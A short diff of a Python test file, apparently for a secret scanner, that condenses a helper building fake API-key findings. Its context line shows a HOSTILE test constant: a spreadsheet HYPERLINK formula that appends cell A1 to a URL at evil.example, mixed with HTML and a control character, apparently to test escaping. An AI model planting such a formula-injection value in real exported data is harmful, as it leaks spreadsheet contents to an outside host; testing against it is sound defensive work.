@@ -18,18 +18,7 @@ HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")<b>&\x01.py'
 
 
 def _finding(secret: str, **kw: Any) -> Finding:
-    base: dict[str, Any] = dict(
-        rule_id="mindee-api-key",
-        description="Mindee API key",
-        severity="critical",
-        path="a.py",
-        line=2,
-        column=5,
-        secret=secret,
-        line_text=f'K = "{secret}"',
-    )
-    base.update(kw)
-    return make_finding(**base)
+    return make_finding(**{"line": 2, "column": 5, "secret": secret, "line_text": f'K = "{secret}"', **kw})
 
 
 def _result(findings: list[Finding], errors: tuple[str, ...] = ()) -> ScanResult:
